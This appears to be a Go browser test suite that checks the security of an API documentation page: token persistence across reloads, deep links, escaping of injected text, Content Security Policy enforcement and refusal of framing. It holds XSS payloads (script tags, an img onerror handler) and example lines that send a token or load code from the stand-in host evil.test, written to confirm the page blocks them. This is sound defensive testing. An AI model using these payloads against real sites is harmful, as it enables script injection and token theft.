package browser_test

import (
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDocsReload: what was entered is forgotten with the page, unless the service
// says otherwise.
func TestDocsReload(t *testing.T) {
	t.Parallel()
	for rule, persist := range map[string]bool{"forgotten by default": false, "kept with PersistAuthorization": true} {
		t.Run(rule, func(t *testing.T) {
			t.Parallel()
			d := newDocumented(t, func(d *documented) { d.cfg.PersistAuthorization = persist })
			p := openDocs(t, d.at("127.0.0.1")+"/docs")
			p.logIn("me")
			p.requireTry("readUsersMe", "200", `"full_name": "John Doe"`)
			assert.Equal(t, persist, eval[int](p.tab, "localStorage.length") > 0, "in the local storage")
			assert.Zero(t, eval[int](p.tab, "sessionStorage.length"))
			assert.Empty(t, eval[string](p.tab, "document.cookie"))
			require.Equal(t, 200, p.leave(reload))
			p.until(`document.querySelector(".opblock")`)
			if !persist {
				p.requireTry("readUsersMe", "401", `"detail": "Not authenticated"`)
				return
			}
			p.requireTry("readUsersMe", "200", `"full_name": "John Doe"`)
			p.logOut("readUsersMe")
			assert.NotContains(t, eval[string](p.tab, "localStorage.getItem('authorized')"), "ey", "a token stays after the logout")
			require.Equal(t, 200, p.leave(reload))
			p.until(`document.querySelector(".opblock")`)
			p.requireTry("readUsersMe", "401", `"detail": "Not authenticated"`)
		})
	}
}

// TestDocsDeepLinks: an operation has a URL, which opens it.
func TestDocsDeepLinks(t *testing.T) {
	t.Parallel()
	for rule, at := range map[string]func(*testing.T, *documented) string{
		"without a prefix": func(_ *testing.T, d *documented) string { return d.at("127.0.0.1") },
		"behind a prefix":  func(t *testing.T, d *documented) string { return prefixed(t, d).at("127.0.0.1") + "/api" },
	} {
		t.Run(rule, func(t *testing.T) {
			t.Parallel()
			home := at(t, newDocumented(t))
			p := openDocs(t, home+"/docs#/default/readStatus")
			p.until("document.querySelector(" + quote(block("readStatus")+".is-open") + ")")
			assert.Equal(t, 1, eval[int](p.tab, "document.querySelectorAll('.opblock.is-open').length"))
			p.requireTry("readStatus", "401", "Not authenticated")
			p.click(block("readPublic") + " .opblock-summary-control")
			p.until(`location.hash === "#/default/readPublic"`)
		})
	}
}

const injection = `</title><script>window.injected = "title"</script><img src=x onerror="window.injected = 'img'">'"&`

// TestDocsText: the service's own words are text, and not markup.
func TestDocsText(t *testing.T) {
	t.Parallel()
	d := newDocumented(t, func(d *documented) {
		d.cfg.Title, d.cfg.Summary, d.cfg.ClientID = injection, injection, "</script><script>window.injected = 'client'</script>"
		d.cfg.Description = "**Bold** <script>window.injected = 'description'</script>"
	})
	p := openDocs(t, d.at("127.0.0.1")+"/docs")
	assert.Equal(t, injection, eval[string](p.tab, "document.title"))
	assert.Equal(t, injection, strings.TrimSpace(eval[string](p.tab, "document.querySelector('.info .title').firstChild.textContent")))
	assert.Equal(t, "Bold", p.shown(".info .description strong"))
	assert.Equal(t, "undefined", eval[string](p.tab, "typeof window.injected"))
	assert.Zero(t, eval[int](p.tab, "document.querySelectorAll('script:not([src])').length"))
	p.requireWhole()
}

// TestDocsPolicy: what an attacker could put into the page does not run, calls
// nobody and changes nothing. Chromium says so.
func TestDocsPolicy(t *testing.T) {
	t.Parallel()
	for rule, c := range map[string]struct{ attack, directive string }{
		"an inline script":        {`const s = document.createElement("script"); s.textContent = "window.injected = 1"; document.body.append(s)`, "script-src"},
		"a handler":               {`const i = document.createElement("div"); i.setAttribute("onclick", "window.injected = 1"); document.body.append(i); i.click()`, "script-src"},
		"a script from elsewhere": {`const s = document.createElement("script"); s.src = "http://evil.test/x.js"; document.body.append(s)`, "script-src"},
		"a call elsewhere":        {`fetch("http://evil.test/?token").catch(() => {})`, "connect-src"},
		"an image from elsewhere": {`new Image().src = "http://evil.test/?token"`, "img-src"},
		"a style from elsewhere":  {`const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "http://evil.test/x.css"; document.head.append(l)`, "style-src"},
		"a form":                  {`const f = document.createElement("form"); f.action = "http://evil.test/"; f.method = "post"; document.body.append(f); f.submit()`, "form-action"},
		"a frame":                 {`const f = document.createElement("iframe"); f.src = "http://evil.test/"; document.body.append(f)`, "frame-src"},
		"another base":            {`const b = document.createElement("base"); b.href = "http://evil.test/"; document.head.append(b)`, "base-uri"},
		"an evaluation":           {`setTimeout("window.injected = 1")`, "script-src"},
	} {
		t.Run(rule, func(t *testing.T) {
			t.Parallel()
			tab, d := newTab(t), newDocumented(t)
			require.Equal(t, 200, tab.open(d.at("127.0.0.1")+"/docs"))
			violated := eval[string](tab, `new Promise(done => {
				document.addEventListener("securitypolicyviolation", e => done(e.effectiveDirective + " " + e.disposition));
				setTimeout(() => done("nothing was refused"), 10000);
				`+c.attack+`;
			})`)
			assert.True(t, strings.HasPrefix(violated, c.directive) && strings.HasSuffix(violated, " enforce"), violated)
			assert.Equal(t, "undefined", eval[string](tab, "typeof window.injected"))
			assert.Contains(t, strings.Join(tab.complaints(), "\n"), "Content Security Policy", "the log that other tests look at")
		})
	}
}

// TestDocsFramed: no other page shows this one in a frame, for its user to click
// on something else than they think.
func TestDocsFramed(t *testing.T) {
	t.Parallel()
	d, tab := newDocumented(t), newTab(t)
	require.Equal(t, 200, tab.open(elsewhere(t, false).at("127.0.0.1")+"/"))
	for _, path := range []string{"/docs", "/docs/oauth2-redirect.html"} {
		eval[chromedp.Void](tab, `load("iframe", `+quote(d.at("127.0.0.1")+path)+`)`)
	}
	require.Eventually(t, func() bool {
		return strings.Count(strings.Join(tab.complaints(), "\n"), "frame-ancestors") == 2
	}, waitLimit, tick, tab.complaints())
}
